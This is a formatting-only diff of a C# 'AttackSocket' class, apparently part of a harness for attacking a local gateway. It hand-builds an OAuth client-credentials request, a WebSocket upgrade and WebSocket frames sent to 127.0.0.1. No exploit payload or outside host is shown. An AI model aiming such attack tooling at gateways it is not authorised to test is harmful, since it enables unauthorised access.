@@ -35,7 +35,8 @@ internal sealed class AttackSocket : IDisposable
     {
         using var socket = await ConnectAsync(target.Port, end);
         var body = $$"""{"grant_type":"client_credentials","appkey":"{{target.AppKey}}","secretkey":"{{secret}}"}""";
-        await socket.SendAsync($"POST /oauth2/Approval HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nContent-Length: {body.Length}\r\n\r\n{body}", end);
+        await socket.SendAsync(
+            $"POST /oauth2/Approval HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nContent-Length: {body.Length}\r\n\r\n{body}", end);
         var answer = await socket.ReadToEndAsync(end);
         if (!answer.StartsWith("HTTP/1.1 200 ", StringComparison.Ordinal))
             return null;
@@ -48,7 +49,8 @@ internal sealed class AttackSocket : IDisposable
     public async Task UpgradeAsync(string path, CancellationToken end)
     {
         await SendAsync(
-            $"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n", end);
+            $"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
+                + "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n", end);
         var count = await ReadAsync(end);
         if (!Encoding.ASCII.GetString(_buffer, 0, count).StartsWith("HTTP/1.1 101 ", StringComparison.Ordinal))
             throw new IOException("the gateway refused a WebSocket");
@@ -58,7 +60,9 @@ internal sealed class AttackSocket : IDisposable
     public static byte[] Frame(byte head, string text)
     {
         var payload = Encoding.UTF8.GetBytes(text);
-        byte[] length = payload.Length < 126 ? [(byte)(0x80 | payload.Length)] : [0x80 | 126, (byte)(payload.Length >> 8), (byte)payload.Length];
+        byte[] length = payload.Length < 126
+            ? [(byte)(0x80 | payload.Length)]
+            : [0x80 | 126, (byte)(payload.Length >> 8), (byte)payload.Length];
         return [head, .. length, 0, 0, 0, 0, .. payload];
     }
 
